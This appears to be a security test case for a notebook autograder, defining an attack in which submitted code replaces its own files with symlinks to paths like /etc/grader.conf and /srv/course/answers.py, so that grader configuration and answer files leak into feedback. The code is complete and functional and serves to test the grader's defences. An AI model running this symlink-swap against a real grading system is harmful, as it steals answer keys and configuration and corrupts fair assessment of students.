"""The running notebook replaces its own files with links and other files.

Success: autograded/ or feedback/ contains a canary, or the attack leaves a trace.
"""


def attack(submission):
    submission.first("""
        import os
        targets = {
            "found.txt": "/etc/grader.conf",
            "data.csv": "/srv/course/answers.py",
            "ps1.ipynb": "/srv/course/notes.txt",
            "folder": "/srv/course/source",
        }
        for name, target in targets.items():
            try:
                if os.path.lexists(name):
                    os.remove(name)
                os.symlink(target, name)
            except OSError as error:
                print(error)
    """)
